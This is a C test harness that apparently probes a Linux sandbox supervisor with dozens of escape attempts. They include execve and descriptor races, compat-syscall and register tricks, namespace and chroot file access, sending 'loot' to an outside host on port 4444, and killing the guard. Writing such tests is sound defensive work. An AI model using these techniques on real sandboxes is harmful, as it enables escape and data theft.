/* Attempts in C: `attack NAME`. What each tries to reach comes in variables; whoever runs it looks whether it was
 * reached. These go below libraries: registers, descriptors, memory that changes, namespaces, tracers. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum {
    PORT = 4444,
    TRIES = 300,
    CHEAP_TRIES = 5000,
    PEER_PIDFD = 77,
    OPEN_TREE = 428,
    TREE_CLONE = 1,
    NAMED_HANDLE = 128
};

static const char allowed[] = "/usr/bin/true";
static const uint64_t rubbish = 0x5a5a5a5a00000000;

static const char *value(const char *name) {
    const char *found = getenv(name);
    return found ? found : "";
}

static char *joined(const char *folder, const char *name) {
    char *path = NULL;
    if (asprintf(&path, "%s/%s", folder, name) < 0) abort();
    return path;
}

static char *const *arguments_of(const char *path) {
    static char *arguments[2];
    arguments[0] = (char *)path;
    return arguments;
}

static void show_descriptor(int fd) {
    char text[200];
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
    if (length > 0) printf("%.*s\n", (int)length, text);
    fflush(stdout);
}

static struct sockaddr_in stranger(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    inet_pton(AF_INET, value("STRANGER"), &address.sin_addr);
    return address;
}

static struct sockaddr_in loopback(int port) {
    return (struct sockaddr_in){
        .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
}

static void send_loot(int fd) {
    const char *loot = value("LOOT");
    send(fd, loot, strlen(loot), MSG_NOSIGNAL);
}

static void try_program(void) {
    pid_t child = fork();
    if (child == 0) {
        execve(value("EVIL"), arguments_of(value("EVIL")), environ);
        _exit(1);
    }
    waitpid(child, NULL, 0);
}

static void try_stranger(void) {
    struct sockaddr_in to = stranger();
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) send_loot(fd);
    close(fd);
}

static void then_try(void) {
    try_program();
    try_stranger();
}

static void copy_file(const char *from, const char *to) {
    char bytes[1 << 16];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    for (ssize_t part; (part = read(in, bytes, sizeof bytes)) > 0;)
        if (write(out, bytes, (size_t)part) != part) break;
    close(in);
    close(out);
}

static void become_root_of_own(void) {
    uid_t user = getuid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return;
    char map[40];
    int fd = open("/proc/self/uid_map", O_WRONLY);
    int length = snprintf(map, sizeof map, "0 %d 1", user);
    if (fd >= 0 && write(fd, map, (size_t)length) < 0) perror("uid_map");
    if (fd >= 0) close(fd);
}

/* Long enough for the other side to see this state, and to change it in the middle of a call. */
static void stay(void) {
    for (volatile int i = 0; i < 20000; i++) {
    }
}

static void start_thread(void *(*run)(void *), void *argument) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, run, argument) == 0) pthread_detach(thread);
}

/* Starting programs */

static void exec_plain(void) { execve(value("EVIL"), arguments_of(value("EVIL")), environ); }

static void exec_vfork(void) {
    pid_t child = vfork();
    if (child == 0) {
        execve(value("EVIL"), arguments_of(value("EVIL")), environ);
        _exit(1);
    }
    waitpid(child, NULL, 0);
}

static void exec_empty_path(void) {
    int fd = open(value("EVIL"), O_PATH);
    syscall(SYS_execveat, fd, "", arguments_of("true"), environ, AT_EMPTY_PATH);
}

/* The kernel reads only the lower halves of these two registers. */
static void exec_upper_halves(void) {
    int fd = open(value("EVIL"), O_PATH);
    syscall(SYS_execveat, rubbish | (unsigned)fd, "", arguments_of("true"), environ, rubbish | AT_EMPTY_PATH);
}

/* `self` spelled so that a comparison of prefixes misses it; for the init it would be the init. */
static void exec_odd_self(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/./self//fd/%d", open(value("EVIL"), O_PATH));
    execve(path, arguments_of("true"), environ);
}

/* The allowed program from outside, its loader from a root of our own. */
static void exec_chroot(void) {
    const char *loader = "/lib64/ld-linux-x86-64.so.2";
    char *lib = joined(value("SCRATCH"), "lib64"), *lib_arm = joined(value("SCRATCH"), "lib");
    int outside = open("/usr/bin", O_PATH);
    mkdir(lib, 0755);
    mkdir(lib_arm, 0755);
    copy_file(value("LOADER"), joined(value("SCRATCH"), loader + 1));
    copy_file(value("LOADER"), joined(value("SCRATCH"), "lib/ld-linux-aarch64.so.1"));
    become_root_of_own();
    if (chroot(value("SCRATCH")) != 0) perror("chroot");
    syscall(SYS_execveat, outside, "true", arguments_of("true"), environ, 0);
}

static char changing_path[256];
static _Noreturn void *change_path(void *unused) {
    (void)unused;
    for (;;) {
        strcpy(changing_path, allowed);
        stay();
        strcpy(changing_path, value("EVIL"));
        stay();
    }
}

static void exec_race_path(void) {
    strcpy(changing_path, allowed);
    start_thread(change_path, NULL);
    for (int i = 0; i < TRIES; i++) {
        pid_t child = vfork();
        if (child == 0) {
            execve(changing_path, arguments_of("true"), environ);
            _exit(1);
        }
        waitpid(child, NULL, 0);
    }
}

/* Two processes with one table of descriptors: one execs a descriptor, the other puts evil behind it. */
static void exec_race_descriptor(void) {
    int good = open(allowed, O_PATH), evil = open(value("EVIL"), O_PATH), both = dup(good);
    pid_t changer = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (changer == 0)
        for (;;) {
            dup2(evil, both);
            stay();
            dup2(good, both);
            stay();
        }
    for (int i = 0; i < TRIES; i++) {
        pid_t child = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) {
            syscall(SYS_execveat, both, "", arguments_of("true"), environ, AT_EMPTY_PATH);
            _exit(1);
        }
        waitpid(child, NULL, 0);
    }
    kill(changer, SIGKILL);
}

#if defined(__x86_64__)
static long call_compat(long number, long first, long second, long third) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "0"(number), "b"(first), "c"(second), "d"(third) : "memory");
    return result;
}
#else
static long call_compat(long number, long first, long second, long third) {
    (void)number, (void)first, (void)second, (void)third;
    return -ENOSYS;
}
#endif

static char *low_memory(void) {
    void *found = mmap((void *)0x10000000, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return found;
}

static void exec_compat(void) {
    char *low = low_memory();
    strcpy(low, value("EVIL"));
    uint32_t *arguments = (uint32_t *)(low + 4096);
    arguments[0] = (uint32_t)(uintptr_t)low;
    call_compat(11, (long)low, (long)arguments, 0);
}

/* Reaching the stranger */

static void connect_upper_halves(void) {
    struct sockaddr_in to = stranger();
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (syscall(SYS_connect, rubbish | (unsigned)fd, &to, rubbish | sizeof to) == 0) send_loot(fd);
}

static struct sockaddr_in changing_address;
static _Noreturn void *change_address(void *unused) {
    (void)unused;
    for (;;) {
        changing_address = loopback(9);
        stay();
        changing_address = stranger();
        stay();
    }
}

static void connect_race_address(void) {
    changing_address = loopback(9);
    start_thread(change_address, NULL);
    for (int i = 0; i < CHEAP_TRIES; i++) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (connect(fd, (struct sockaddr *)&changing_address, sizeof changing_address) == 0) send_loot(fd);
        close(fd);
    }
}

static void send_race_address(void) {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    changing_address = loopback(9);
    start_thread(change_address, NULL);
    for (int i = 0; i < CHEAP_TRIES; i++)
        sendto(fd, value("LOOT"), strlen(value("LOOT")), 0, (struct sockaddr *)&changing_address,
               sizeof changing_address);
}

static void send_unspecified(void) {
    struct sockaddr_in to = stranger();
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    to.sin_family = AF_UNSPEC;
    sendto(fd, value("LOOT"), strlen(value("LOOT")), 0, (struct sockaddr *)&to, sizeof to);
}

/* An IPv4 address on a socket of IPv6. */
static void send_other_family(void) {
    struct sockaddr_in to = stranger();
    int fd = socket(AF_INET6, SOCK_DGRAM, 0);
    sendto(fd, value("LOOT"), strlen(value("LOOT")), 0, (struct sockaddr *)&to, sizeof to);
}

static void send_reconnected(void) {
    struct sockaddr_in near = loopback(9), to = stranger(), none = {.sin_family = AF_UNSPEC};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    connect(fd, (struct sockaddr *)&near, sizeof near);
    connect(fd, (struct sockaddr *)&none, sizeof none);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) send_loot(fd);
}

static void send_many_upper_half(void) {
    struct sockaddr_in near = loopback(9), to = stranger();
    struct iovec loot = {(void *)value("LOOT"), strlen(value("LOOT"))};
    struct mmsghdr messages[2] = {{.msg_hdr = {&near, sizeof near, &loot, 1, NULL, 0, 0}},
                                  {.msg_hdr = {&to, sizeof to, &loot, 1, NULL, 0, 0}}};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    syscall(SYS_sendmmsg, fd, messages, rubbish | 2, 0);
}

/* The way back of a source route, as control data of one packet. */
static void send_return_options(void) {
    struct sockaddr_in near = loopback(9), to = stranger();
    _Alignas(struct cmsghdr) char control[CMSG_SPACE(12)] = {0};
    struct iovec loot = {(void *)value("LOOT"), strlen(value("LOOT"))};
    struct msghdr message = {&near, sizeof near, &loot, 1, control, sizeof control, 0};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){.cmsg_len = CMSG_LEN(8), .cmsg_level = IPPROTO_IP, .cmsg_type = 7 /* IP_RETOPTS */};
    uint8_t route[8] = {131, 7, 4};
    memcpy(route + 3, &to.sin_addr, 4);
    memcpy(CMSG_DATA(head), route, sizeof route);
    sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &message, 0);
}

static void connect_compat(void) {
    char *low = low_memory();
    struct sockaddr_in to = stranger();
    memcpy(low, &to, sizeof to);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (call_compat(362, fd, (long)low, sizeof to) == 0) send_loot(fd);
}

/* A thread whose table of descriptors is its own: the same number means another socket in the rest of the process. */
static void *connect_own_table(void *unused) {
    (void)unused;
    struct sockaddr_in to = stranger();
    unshare(CLONE_FILES);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) send_loot(fd);
    return NULL;
}

static void connect_own_descriptors(void) {
    pthread_t thread;
    pthread_create(&thread, NULL, connect_own_table, NULL);
    pthread_join(thread, NULL);
}

/* A lookup in pieces, with loot behind the question. */
static void query_in_pieces(void) {
    uint8_t head[12] = {0, 7, 1, 0, 0, 1}, question[] = "\3api\3lab\4test\0\0\1\0\1";
    struct iovec pieces[] = {
        {head, 5}, {head + 5, 7}, {question, sizeof question - 1}, {(void *)value("LOOT"), strlen(value("LOOT"))}};
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "192.0.2.53", &server.sin_addr);
    struct msghdr message = {&server, sizeof server, pieces, 4, NULL, 0, 0};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    sendmsg(fd, &message, 0);
    struct pollfd answered = {fd, POLLIN, 0};
    poll(&answered, 1, 500);
}

/* Reading what is secret */

static void read_compat(void) {
    char *low = low_memory();
    strcpy(low, value("SECRET"));
    show_descriptor((int)call_compat(5, (long)low, O_RDONLY, 0));
}

static void read_upper_halves(void) {
    show_descriptor(
        (int)syscall(SYS_openat, rubbish | (unsigned)AT_FDCWD, value("SECRET"), rubbish | O_RDONLY, rubbish));
}

static void read_odd_self(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/./self//fd/%d", open(value("SECRET"), O_PATH));
    show_descriptor(open(path, O_RDONLY));
}

static void read_chroot(void) {
    char *folder = joined(value("SECRET"), "..");
    *strrchr(folder, '/') = '\0';
    *strrchr(folder, '/') = '\0';
    become_root_of_own();
    if (chroot(folder) != 0) perror("chroot");
    show_descriptor(open("/secret", O_RDONLY));
}

/* A copy of the folder's mount that is mounted nowhere. */
static void read_detached(void) {
    char *folder = joined(value("SECRET"), "..");
    *strrchr(folder, '/') = '\0';
    *strrchr(folder, '/') = '\0';
    become_root_of_own();
    int tree = (int)syscall(OPEN_TREE, AT_FDCWD, folder, TREE_CLONE | O_CLOEXEC);
    show_descriptor(openat(tree, "secret", O_RDONLY));
}

static void read_by_handle(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + NAMED_HANDLE);
    int mount = 0;
    handle->handle_bytes = NAMED_HANDLE;
    if (name_to_handle_at(AT_FDCWD, value("SECRET"), handle, &mount, 0) != 0) return;
    become_root_of_own();
    show_descriptor(open_by_handle_at(open("/tmp", O_RDONLY), handle, O_RDONLY));
}

static char changing_secret[256];
static _Noreturn void *change_secret(void *unused) {
    (void)unused;
    for (;;) {
        strcpy(changing_secret, "/etc/hostname");
        stay();
        strcpy(changing_secret, value("SECRET"));
        stay();
    }
}

static void read_race(void) {
    strcpy(changing_secret, "/etc/hostname");
    start_thread(change_secret, NULL);
    for (int i = 0; i < CHEAP_TRIES; i++) {
        int fd = open(changing_secret, O_RDONLY);
        show_descriptor(fd);
        if (fd >= 0) close(fd);
    }
}

/* A second process that shares the table of descriptors puts the secret's folder behind the one that is opened from. */
static void read_race_folder(void) {
    char *folder = joined(value("SECRET"), "..");
    *strrchr(folder, '/') = '\0';
    *strrchr(folder, '/') = '\0';
    int hidden = open(folder, O_PATH), scratch = open(value("SCRATCH"), O_PATH), both = dup(scratch);
    close(openat(scratch, "secret", O_CREAT | O_WRONLY, 0644));
    pid_t changer = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (changer == 0)
        for (;;) {
            dup2(hidden, both);
            stay();
            dup2(scratch, both);
            stay();
        }
    for (int i = 0; i < CHEAP_TRIES; i++) {
        int fd = openat(both, "secret", O_RDONLY);
        show_descriptor(fd);
        if (fd >= 0) close(fd);
    }
    kill(changer, SIGKILL);
}

/* Changing what is protected */

static void write_compat(void) {
    char *low = low_memory();
    strcpy(low, joined(value("PROTECTED"), "file"));
    call_compat(92, (long)low, 0, 0); /* truncate */
}

static void write_mode_by_descriptor(void) { fchmod(open(joined(value("PROTECTED"), "file"), O_RDONLY), 0777); }

static void write_nameless(void) {
    int fd = open(value("SCRATCH"), O_TMPFILE | O_WRONLY, 0644), folder = open(value("PROTECTED"), O_PATH);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    linkat(AT_FDCWD, path, folder, "linked", AT_SYMLINK_FOLLOW);
    linkat(fd, "", folder, "linked", AT_EMPTY_PATH);
}

static void write_chroot(void) {
    become_root_of_own();
    if (chroot(value("PROTECTED")) != 0) perror("chroot");
    close(open("/file", O_WRONLY | O_TRUNC));
    close(open("/new", O_WRONLY | O_CREAT, 0644));
}

static void write_mode_three(void) { close(open(joined(value("PROTECTED"), "file"), O_ACCMODE | O_TRUNC)); }

/* On the guard itself */

/* The init connects on behalf, so the peer of such a socket is the init. */
static void kill_peer(void) {
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "\0lab-allowed"};
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof "\0lab-allowed" - 1);
    int server = socket(AF_UNIX, SOCK_STREAM, 0), client = socket(AF_UNIX, SOCK_STREAM, 0);
    bind(server, (struct sockaddr *)&name, length);
    listen(server, 1);
    connect(client, (struct sockaddr *)&name, length);
    int accepted = accept(server, NULL, NULL), pidfd = -1;
    socklen_t size = sizeof pidfd;
    getsockopt(accepted, SOL_SOCKET, PEER_PIDFD, &pidfd, &size);
    syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
    syscall(SYS_pidfd_send_signal, rubbish | (unsigned)pidfd, SIGKILL, NULL, 0);
    then_try();
}

static void *wait_for_room(void *socket) {
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "\0lab-allowed"};
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof "\0lab-allowed" - 1);
    int client = (int)(intptr_t)socket;
    connect(client, (struct sockaddr *)&name, length);
    return NULL;
}

/* More calls that wait than the init can hold. */
static void fill_held(void) {
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "\0lab-allowed"};
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof "\0lab-allowed" - 1);
    int server = socket(AF_UNIX, SOCK_STREAM, 0);
    bind(server, (struct sockaddr *)&name, length);
    listen(server, 0);
    for (int i = 0; i < 300; i++) start_thread(wait_for_room, (void *)(intptr_t)socket(AF_UNIX, SOCK_STREAM, 0));
    usleep(300000);
    then_try();
}

static void signal_by_descriptor(void) {
    int ends[2];
    if (pipe(ends) != 0) return;
    fcntl(ends[0], F_SETOWN, getppid());
    for (int number = 1; number < 65; number++) {
        fcntl(ends[0], F_SETSIG, number);
        fcntl(ends[0], F_SETFL, O_ASYNC);
        if (write(ends[1], "", 1) < 0) break;
    }
    then_try();
}

static const struct {
    const char *name;
    void (*run)(void);
} attempts[] = {
    {"exec", exec_plain},
    {"exec_vfork", exec_vfork},
    {"exec_empty_path", exec_empty_path},
    {"exec_upper_halves", exec_upper_halves},
    {"exec_odd_self", exec_odd_self},
    {"exec_chroot", exec_chroot},
    {"exec_race_path", exec_race_path},
    {"exec_race_descriptor", exec_race_descriptor},
    {"exec_compat", exec_compat},
    {"connect_upper_halves", connect_upper_halves},
    {"connect_race_address", connect_race_address},
    {"connect_compat", connect_compat},
    {"connect_own_descriptors", connect_own_descriptors},
    {"send_race_address", send_race_address},
    {"send_unspecified", send_unspecified},
    {"send_other_family", send_other_family},
    {"send_reconnected", send_reconnected},
    {"send_many_upper_half", send_many_upper_half},
    {"send_return_options", send_return_options},
    {"query_in_pieces", query_in_pieces},
    {"read_compat", read_compat},
    {"read_upper_halves", read_upper_halves},
    {"read_odd_self", read_odd_self},
    {"read_chroot", read_chroot},
    {"read_detached", read_detached},
    {"read_by_handle", read_by_handle},
    {"read_race", read_race},
    {"read_race_folder", read_race_folder},
    {"write_compat", write_compat},
    {"write_mode_by_descriptor", write_mode_by_descriptor},
    {"write_nameless", write_nameless},
    {"write_chroot", write_chroot},
    {"write_mode_three", write_mode_three},
    {"kill_peer", kill_peer},
    {"fill_held", fill_held},
    {"signal_by_descriptor", signal_by_descriptor},
};

int main(int count, char **arguments) {
    for (size_t i = 0; count == 2 && i < sizeof attempts / sizeof attempts[0]; i++)
        if (strcmp(attempts[i].name, arguments[1]) == 0) attempts[i].run();
    return 0;
}
